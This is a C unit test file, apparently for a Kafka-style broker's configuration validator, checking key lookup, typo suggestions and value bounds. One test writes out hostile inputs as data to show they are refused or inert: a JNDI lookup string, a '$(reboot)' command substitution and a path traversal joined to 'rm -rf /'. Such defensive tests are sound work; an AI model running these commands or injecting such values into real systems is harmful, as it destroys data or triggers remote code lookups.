/* SPDX-License-Identifier: Apache-2.0 */
/* Finding keys, and checking values against their rows. */
#include "catalog/config.h"

#include <cmocka.h>

static enum error check(enum config_scope scope, const char *key, const char *value, char *reason)
{
    const struct config_row *row = config_find(scope, key);
    assert_non_null(row);
    reason[0] = '\0';
    return config_check(row, value, reason);
}

static void accepts(enum config_scope scope, const char *key, const char *value)
{
    char reason[CONFIG_REASON_BYTES];
    if (check(scope, key, value, reason) != ERROR_NONE)
        fail_msg("%s = '%s' refused: %s", key, value, reason);
}

static void refuses(enum config_scope scope, const char *key, const char *value, const char *why)
{
    char reason[CONFIG_REASON_BYTES];
    assert_int_equal(check(scope, key, value, reason), ERROR_INVALID_CONFIG);
    assert_string_equal(reason, why);
}

/* The same key is one row for topics and another for nodes. */
static void a_key_is_found_in_its_scope_only(void **state)
{
    (void)state;
    assert_int_equal(config_find(CONFIG_TOPIC, "topicfs.durability")->scope, CONFIG_TOPIC);
    assert_int_equal(config_find(CONFIG_NODE, "topicfs.durability")->scope, CONFIG_NODE);
    assert_null(config_find(CONFIG_NODE, "retention.ms"));
    assert_null(config_find(CONFIG_TOPIC, "log.retention.ms"));
    assert_null(config_find(CONFIG_TOPIC, ""));
}

/* A typing mistake leads to the key that was meant. */
static void the_nearest_key_is_the_one_meant(void **state)
{
    (void)state;
    assert_string_equal(config_nearest(CONFIG_TOPIC, "retension.ms"), "retention.ms");
    assert_string_equal(config_nearest(CONFIG_NODE, "log.dir.s"), "log.dirs");
    assert_string_equal(config_nearest(CONFIG_NODE, "listner"), "listeners");
    assert_string_equal(config_nearest(CONFIG_NODE, "topicfs.durabilty"), "topicfs.durability");
    assert_non_null(config_nearest(CONFIG_NODE, ""));
    assert_null(config_nearest(CONFIG_GROUP, "any"));
}

/* A key of any length may be asked about. */
static void the_nearest_key_of_a_huge_one_is_still_found(void **state)
{
    (void)state;
    char huge[5000];
    memset(huge, 'x', sizeof huge);
    huge[sizeof huge - 1] = '\0';
    assert_non_null(config_nearest(CONFIG_NODE, huge));
}

/* Whole numbers: bounds of the row, then of the type, and nothing but digits. */
static void numbers_are_bounded(void **state)
{
    (void)state;
    accepts(CONFIG_TOPIC, "retention.ms", "-1");
    accepts(CONFIG_TOPIC, "retention.ms", " 9223372036854775807 ");
    accepts(CONFIG_TOPIC, "segment.bytes", "1048576");
    accepts(CONFIG_NODE, "offsets.topic.replication.factor", "+3");
    refuses(CONFIG_TOPIC, "retention.ms", "-2", "must be at least -1");
    refuses(CONFIG_TOPIC, "retention.ms", "9223372036854775808", "does not fit its type");
    refuses(CONFIG_TOPIC, "segment.bytes", "14", "must be at least 1048576");
    refuses(CONFIG_TOPIC, "segment.bytes", "2147483648", "does not fit its type");
    refuses(CONFIG_NODE, "offsets.topic.replication.factor", "32768", "does not fit its type");
    refuses(CONFIG_TOPIC, "compression.lz4.level", "18", "must be at most 17");
    refuses(CONFIG_TOPIC, "retention.ms", "", "must be a number");
    refuses(CONFIG_TOPIC, "retention.ms", "7d", "must be a whole number");
    refuses(CONFIG_TOPIC, "retention.ms", "1 2", "must be a whole number");
    refuses(CONFIG_TOPIC, "retention.ms", "1.5", "must be a whole number");
}

/* A retention of 0 is Kafka's "delete at once" for a topic, and a mistake for a node. */
static void a_node_retention_of_zero_is_refused(void **state)
{
    (void)state;
    accepts(CONFIG_TOPIC, "retention.ms", "0");
    refuses(CONFIG_NODE, "log.retention.ms", "0", "must be -1 or at least 1");
    refuses(CONFIG_NODE, "log.retention.hours", "0", "must be -1 or at least 1");
}

/* Fractions, and the words that strtod would take but Kafka's users do not mean. */
static void doubles_are_bounded(void **state)
{
    (void)state;
    accepts(CONFIG_TOPIC, "min.cleanable.dirty.ratio", "0.01");
    accepts(CONFIG_TOPIC, "min.cleanable.dirty.ratio", "1");
    refuses(CONFIG_TOPIC, "min.cleanable.dirty.ratio", "1.01", "must be at most 1");
    refuses(CONFIG_TOPIC, "min.cleanable.dirty.ratio", "-0.1", "must be at least 0");
    refuses(CONFIG_TOPIC, "min.cleanable.dirty.ratio", "nan", "must be a number");
    refuses(CONFIG_TOPIC, "min.cleanable.dirty.ratio", "half", "must be a number");
}

/* Booleans in any case, as ConfigDef reads them. */
static void booleans_are_true_or_false(void **state)
{
    (void)state;
    accepts(CONFIG_NODE, "topicfs.insecure", "TRUE");
    accepts(CONFIG_NODE, "topicfs.insecure", " false");
    refuses(CONFIG_NODE, "topicfs.insecure", "yes", "must be true or false");
    refuses(CONFIG_NODE, "topicfs.insecure", "", "must be true or false");
}

/* Lists and strings hold what their row allows, lists nothing twice. */
static void choices_are_enforced(void **state)
{
    (void)state;
    accepts(CONFIG_TOPIC, "cleanup.policy", "compact, delete");
    accepts(CONFIG_TOPIC, "cleanup.policy", "");
    accepts(CONFIG_TOPIC, "compression.type", "zstd");
    accepts(CONFIG_TOPIC, "compression.gzip.level", "-1");
    refuses(CONFIG_TOPIC, "compression.gzip.level", "0", "must be one of -1,1,2,3,4,5,6,7,8,9");
    refuses(CONFIG_TOPIC, "cleanup.policy", "compact,compact", "must not name anything twice");
    refuses(CONFIG_TOPIC, "cleanup.policy", "compact,drop", "must be one of compact,delete");
    refuses(CONFIG_TOPIC, "topicfs.durability", "FSYNC", "must be one of fsync,replicated");
    refuses(CONFIG_TOPIC, "topicfs.durability", "", "must be one of fsync,replicated");
}

/* Values are data only: what other brokers would load or look up is refused or inert. */
static void hostile_values_are_data(void **state)
{
    (void)state;
    refuses(CONFIG_TOPIC, "compression.type", "${jndi:ldap://x/a}",
            "must be one of uncompressed,zstd,lz4,snappy,gzip,producer");
    refuses(CONFIG_TOPIC, "retention.ms", "$(reboot)", "must be a whole number");
    accepts(CONFIG_NODE, "broker.rack", "../../etc/passwd; rm -rf /");
}

/* Elements come trimmed, empty ones not at all. */
static void a_list_gives_its_elements(void **state)
{
    (void)state;
    const char *list = " a ,, b,c , ";
    struct slice element;
    assert_true(config_list_next(&list, &element));
    assert_true(slice_equals_text(element, "a"));
    assert_true(config_list_next(&list, &element));
    assert_true(slice_equals_text(element, "b"));
    assert_true(config_list_next(&list, &element));
    assert_true(slice_equals_text(element, "c"));
    assert_false(config_list_next(&list, &element));
    assert_false(config_list_next(&list, &element));
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(a_key_is_found_in_its_scope_only),
        cmocka_unit_test(the_nearest_key_is_the_one_meant),
        cmocka_unit_test(the_nearest_key_of_a_huge_one_is_still_found),
        cmocka_unit_test(numbers_are_bounded),
        cmocka_unit_test(a_node_retention_of_zero_is_refused),
        cmocka_unit_test(doubles_are_bounded),
        cmocka_unit_test(booleans_are_true_or_false),
        cmocka_unit_test(choices_are_enforced),
        cmocka_unit_test(hostile_values_are_data),
        cmocka_unit_test(a_list_gives_its_elements),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
